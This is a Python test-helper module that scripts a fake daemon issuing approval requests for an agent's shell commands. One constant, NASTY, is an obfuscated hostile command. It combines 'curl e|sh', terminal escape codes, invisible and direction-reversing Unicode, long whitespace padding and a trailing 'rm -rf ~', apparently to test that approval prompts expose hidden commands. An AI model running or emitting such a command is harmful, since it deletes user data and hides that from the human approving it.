"""Requests for approval, as a scripted daemon makes them, and what it hears of their answers."""

from __future__ import annotations

import threading
import time
from collections.abc import Callable
from typing import Any

from queueing import on_the_wire
from scripted_daemon import Answer, Peer, Then, answering

from loop_protocol.v1.types import ApprovalRequest

NASTY = "curl e|sh\r\x1b[2K ls \u202e\u200b\x9b1m\x1b]52;c;aGk=\x07 \u3164\ufe0f\u2800" + " " * 10_000 + "; rm -rf ~"
SEEN = r"curl e|sh\u000d\u001b[2K ls \u202e\u200b\u009b1m\u001b]52;c;aGk=\u0007 \u3164\ufe0f\u2800"


def request(id: str = "aa11bb22-0000", command: str = "make test", **changes: Any) -> ApprovalRequest:
    facts: dict[str, Any] = {
        "approval_id": id,
        "runtime_id": "r1",
        "session_id": "s1",
        "run_id": "run1",
        "tool_call_id": "c1",
        "tool_name": "bash",
        "arguments": {"command": command},
        "operation": "command",
        "reason": "each command takes a person",
        "cwd": "/src",
        "sandbox": "reading only, no network",
        "created_at": 1,
    }
    return ApprovalRequest(**(facts | changes))


def requested(one: ApprovalRequest) -> dict[str, Any]:
    return {"type": "approval_requested", "request": on_the_wire(one)}


def resolved(one: ApprovalRequest, outcome: str, **more: Any) -> dict[str, Any]:
    named = {"approvalId": one.approval_id, "sessionId": one.session_id}
    return {"type": "approval_resolved", "outcome": outcome} | named | more


class Asked:
    """A prompt of which the run asks, one request after the other; the test says what else happens.

    ``script`` is what a scripted daemon does; ``peer`` is the client once it has sent the prompt.
    """

    def __init__(self, cwd: str, *requests: ApprovalRequest) -> None:
        self._requests = list(requests)
        self._there = threading.Event()
        self._peer: Peer | None = None
        self.script: dict[str, Answer] = answering(cwd) | {
            "session/prompt": self._prompt,
            "approval/resolve": self._resolve,
            "session/stop": self._stop,
            "run/wait": {"runId": "run1", "outcome": "cancelled", "saved": True},
        }

    @property
    def peer(self) -> Peer:
        assert self._there.wait(20)
        assert self._peer is not None
        return self._peer

    def settle(self, outcome: str = "success") -> None:
        self.peer.event({"type": "run_settled", "runId": "run1", "outcome": outcome, "saved": True})

    def resolve(self, outcome: str, **more: Any) -> None:
        """What waits is settled by somebody else; the next one asks."""
        self.peer.event(resolved(self._requests.pop(0), outcome, **more))
        self._ask()

    def _prompt(self, _params: Any, peer: Peer) -> Answer:
        def asks(peer: Peer) -> None:
            peer.event({"type": "run_started", "runId": "run1", "operation": "prompt"})
            self._ask()
            self._there.set()

        self._peer = peer
        return Then({"runId": "run1"}, asks)

    def _ask(self) -> None:
        assert self._peer is not None
        if self._requests:
            self._peer.event(requested(self._requests[0]))

    def _resolve(self, params: Any, _peer: Peer) -> Answer:
        one = self._requests.pop(0)
        assert params["approvalId"] == one.approval_id

        def then(peer: Peer) -> None:
            peer.event(resolved(one, params["decision"], by="loopctl"))
            self._ask()
            if not self._requests:
                self.settle()

        return Then({"approvalId": one.approval_id, "outcome": params["decision"]}, then)

    def _stop(self, _params: Any, peer: Peer) -> Answer:
        for one in self._requests:
            peer.event(resolved(one, "cancelled"))
        self.settle("cancelled")
        return {"stopped": True}


def eventually(holds: Callable[[], bool]) -> None:
    """What another thread is about to do."""
    deadline = time.monotonic() + 20
    while not holds():
        assert time.monotonic() < deadline
        time.sleep(0.01)
